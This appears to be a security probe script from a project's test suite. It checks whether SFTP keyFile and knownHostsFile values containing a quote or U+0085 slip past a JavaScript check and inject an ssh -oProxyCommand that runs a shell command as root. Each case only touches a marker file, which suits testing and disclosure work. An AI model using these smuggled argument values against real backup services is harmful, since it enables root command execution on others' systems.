// Attack: an SFTP repository's keyFile (or knownHostsFile) that the JS whitespace check lets
// through but restic's sftp.command splitter cuts into more ssh arguments: a quote (restic's
// splitter ends a word at ' or ") or U+0085 (Go's unicode.IsSpace, not JS's \s). The extra
// argument -oProxyCommand=… comes before "--": ssh runs it through the shell, as root.
// Run: node_modules/.bin/deno run -A attackrestic/sftp_split_probe.ts
import { withTestApp } from "../routes/test_app.ts";

const marker = (n: string) => `/tmp/kvmm-atk-pwned-${n}`;
const cmd = (n: string) => `-oProxyCommand=touch\${IFS}${marker(n)}`;
const cases: Record<string, Record<string, unknown>> = {
  keyQuote: { keyFile: `/x'${cmd("keyQuote")}'` },
  keyNel: { keyFile: `/x\u0085${cmd("keyNel")}` },
  knownQuote: { knownHostsFile: `/k'${cmd("knownQuote")}'` },
  knownNel: { knownHostsFile: `/k\u0085${cmd("knownNel")}` },
};
await withTestApp(async ({ req }) => {
  for (const [name, extra] of Object.entries(cases)) {
    await Deno.remove(marker(name)).catch(() => {});
    const res = await req("POST", "/api/backup-repositories", {
      name,
      kind: "sftp",
      location: "u@127.0.0.1:/r",
      password: "passwordpassword",
      port: 9,
      ...extra,
    });
    const body = await res.text();
    const ran = await Deno.stat(marker(name)).then(() => true, () => false);
    console.log(`${name}: ${res.status} ran-as-${Deno.uid()}=${ran} ${body.slice(0, 200)}`);
    await Deno.remove(marker(name)).catch(() => {});
  }
});
